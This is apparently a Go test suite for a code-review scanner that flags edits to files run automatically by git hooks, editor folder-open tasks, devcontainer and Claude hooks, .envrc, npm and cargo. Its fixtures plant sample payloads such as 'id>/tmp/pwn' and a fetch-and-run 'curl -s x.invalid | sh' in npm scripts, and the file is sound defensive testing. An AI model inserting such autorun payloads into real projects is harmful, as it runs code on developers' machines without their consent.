package review

import (
	"fmt"
	"strings"
	"testing"
)

// The first outside round's indirect targets (bridge/testdata/
// outside-attacks/review/01): each changed file must be high on its own,
// reached from an unchanged entry point.
func TestAutorunGraphOutsideRound01(t *testing.T) {
	ctx := map[string]string{
		".husky/pre-commit":               "npx lint-staged",
		".pre-commit-config.yaml":         "repos:\n- repo: local\n  hooks:\n  - id: check\n    name: check\n    entry: ./scripts/check.sh\n    language: script\n",
		".vscode/tasks.json":              `{"version":"2.0.0","tasks":[{"label":"dev","type":"shell","command":"./scripts/dev.sh","runOptions":{"runOn":"folderOpen"}}]}`,
		".claude/settings.json":           `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"sh .claude/hooks/start.sh"}]}]}}`,
		".devcontainer/devcontainer.json": `{"image":"debian","initializeCommand":"sh .devcontainer/init.sh"}`,
		".envrc":                          "source_env scripts/env.sh",
		".npmrc":                          "node-options=--require ./scripts/preload.js",
	}
	pkgOld := `{"name":"x","scripts":{"postinstall":"npm run build","build":"tsc","prepare":"husky"}}`
	files := []*File{
		mod("package.json", pkgOld, strings.Replace(pkgOld, `"build":"tsc"`, `"build":"tsc && sh -c 'id>/tmp/pwn'"`, 1)),
		mod(".lintstagedrc.json", `{"*.js":"eslint"}`, `{"*.js":"sh -c 'id>/tmp/pwn'"}`),
		mod("scripts/check.sh", "#!/bin/sh\nexit 0\n", "#!/bin/sh\nid>/tmp/pwn\n"),
		mod("scripts/dev.sh", "#!/bin/sh\necho dev\n", "#!/bin/sh\nid>/tmp/pwn\n"),
		mod(".claude/hooks/start.sh", "echo start", "id>/tmp/pwn\n"),
		mod(".devcontainer/init.sh", "echo init", "id>/tmp/pwn\n"),
		mod("scripts/env.sh", "export A=1", "export A=1\nid>/tmp/pwn\n"),
		mod("scripts/preload.js", "// preload", `require("child_process").execSync("id>/tmp/pwn")`),
	}
	reps := ScanTree(files, func(p string) ([]byte, bool) { b, ok := ctx[p]; return []byte(b), ok })
	for _, r := range reps {
		if r.Max() != High {
			t.Errorf("%s: max %s, want high (%+v)", r.File.Path, r.Max(), r.Findings)
		}
	}
	// The chain is shown.
	for _, r := range reps {
		if r.File.Path == "scripts/env.sh" {
			for _, f := range r.Findings {
				if f.Rule == "AUTORUN-TARGET" && !strings.Contains(f.Detail, ".envrc") {
					t.Errorf("chain not shown: %q", f.Detail)
				}
			}
		}
	}
}

// An unchanged .cargo/config.toml names the linker; changing that script
// is a change to what every cargo build (rust-analyzer's check on open)
// runs (outside round4/002).
func TestCargoConfigLinkerReached(t *testing.T) {
	ctx := map[string]string{
		".cargo/config.toml": "[target.x86_64-unknown-linux-gnu]\nlinker = \"tools/cc-fast\"\n",
		"Cargo.toml":         "[package]\nname = \"x\"\nversion = \"0.1.0\"\n",
	}
	f := mod("tools/cc-fast", "#!/bin/sh\nexec cc \"$@\"\n", "#!/bin/sh\ntouch /tmp/x\nexec cc \"$@\"\n")
	f.OldMode, f.NewMode = 0o100755, 0o100755
	reps := ScanTree([]*File{f}, func(p string) ([]byte, bool) { b, ok := ctx[p]; return []byte(b), ok })
	if sev := reps[0].Max(); sev != High {
		t.Fatalf("the linker script cargo runs: %v", reps[0].Findings)
	}
}

// GNU make's .RECIPEPREFIX: recipe lines start with its character, not a
// tab (outside round4/019).
func TestMakefileRecipePrefix(t *testing.T) {
	mf := parseMakefile([]byte(".RECIPEPREFIX = >\nsetup:\n> ./tools/setup.sh\n> @echo done\n"), false)
	if got := mf.recipes["setup"]; len(got) != 2 || got[0] != "./tools/setup.sh" || got[1] != "echo done" {
		t.Fatalf("recipes %q", got)
	}
}

// A folder-open task of type npm runs package.json's script by name:
// editing that script is an edit to what runs on open (outside round
// history/17).
func TestNpmTaskScriptReached(t *testing.T) {
	ctx := map[string]string{
		".vscode/tasks.json": `{"version":"2.0.0","tasks":[{"type":"npm","script":"watch","label":"watch","runOptions":{"runOn":"folderOpen"}}]}`,
	}
	f := mod("package.json", `{"name":"p","scripts":{"watch":"tsc -w"}}`, `{"name":"p","scripts":{"watch":"tsc -w & curl -s x.invalid | sh"}}`)
	reps := ScanTree([]*File{f}, func(p string) ([]byte, bool) { b, ok := ctx[p]; return []byte(b), ok })
	if sev := reps[0].Max(); sev != High {
		t.Fatalf("the npm script a folder-open task runs: %v", reps[0].Findings)
	}
}

// The graph resolves targets as node and the filesystem do: a directory's
// package.json "main" (outside round history3/17) and a path through a
// symbolic link the tree holds (history3/22: tools -> lib/tools).
func TestTargetThroughDirectoryAndSymlink(t *testing.T) {
	task := `{"version":"2.0.0","tasks":[{"label":"dev","type":"shell","command":"node tools/setup.js","runOptions":{"runOn":"folderOpen"}}]}`
	for name, ctx := range map[string]map[string]string{
		"directory main": {".vscode/tasks.json": task, "tools/setup.js/package.json": `{"main":"lib.js"}`},
		"symlinked dir":  {".vscode/tasks.json": strings.Replace(task, "tools/setup.js", "tools/run.js", 1), "tools": "lib/tools"},
		// history4/04: the kernel resolves d before "..": x/lib/tools.
		"link then dotdot": {".vscode/tasks.json": strings.Replace(task, "tools/setup.js", "t/run.js", 1), "t": "d/../lib/tools", "d": "x/y", "lib/tools/run.js": "// honest\n"},
		"31 links":         chainOfLinks(31),
	} {
		f := add("tools/setup.js/lib.js", "require('child_process').execSync('sh x')\n")
		switch name {
		case "symlinked dir":
			f = add("lib/tools/run.js", "require('child_process').execSync('sh x')\n")
		case "link then dotdot":
			f = add("x/lib/tools/run.js", "require('child_process').execSync('sh x')\n")
		case "31 links":
			f = add("real/run.js", "require('child_process').execSync('sh x')\n")
		}
		reps := ScanTree([]*File{f}, func(p string) ([]byte, bool) { b, ok := ctx[p]; return []byte(b), ok })
		if sev := reps[0].Max(); sev != High {
			t.Errorf("%s: the file a folder-open task runs: %v", name, reps[0].Findings)
		}
	}
}

// chainOfLinks is a folder-open task running l0/run.js, with l0 -> l1 ->
// ... -> l(n-1) -> real.
func chainOfLinks(n int) map[string]string {
	task := `{"version":"2.0.0","tasks":[{"label":"dev","type":"shell","command":"node l0/run.js","runOptions":{"runOn":"folderOpen"}}]}`
	m := map[string]string{".vscode/tasks.json": task}
	for i := 0; i < n-1; i++ {
		m[fmt.Sprintf("l%d", i)] = fmt.Sprintf("l%d", i+1)
	}
	m[fmt.Sprintf("l%d", n-1)] = "real"
	return m
}
